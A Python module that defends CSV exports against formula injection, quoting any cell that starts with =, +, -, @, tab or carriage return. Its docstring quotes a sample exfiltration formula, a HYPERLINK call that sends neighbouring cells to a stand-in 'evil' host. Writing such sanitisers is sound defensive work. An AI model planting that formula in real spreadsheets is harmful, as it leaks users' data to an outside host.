"""CSV files that a spreadsheet opens as data, never as formulas (CSV injection).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice or Google Sheets as a formula (``=HYPERLINK("https://evil/?"&A1, "..")``
sends the sheet's neighbouring cells away when clicked). As OWASP advises, such a cell is
prefixed with a single quote, which spreadsheets show as text. Every CSV export writes
through ``writer`` (or ``safe_cell``), so no caller can forget a column.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell a spreadsheet will not evaluate.

    Numbers stay numbers (a negative number is not a formula, and quoting it would make it
    text); everything else becomes a string, quoted if it could start a formula."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, stream: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])


def writer(stream: IO[str], **kwargs: Any) -> SafeWriter:
    return SafeWriter(stream, **kwargs)
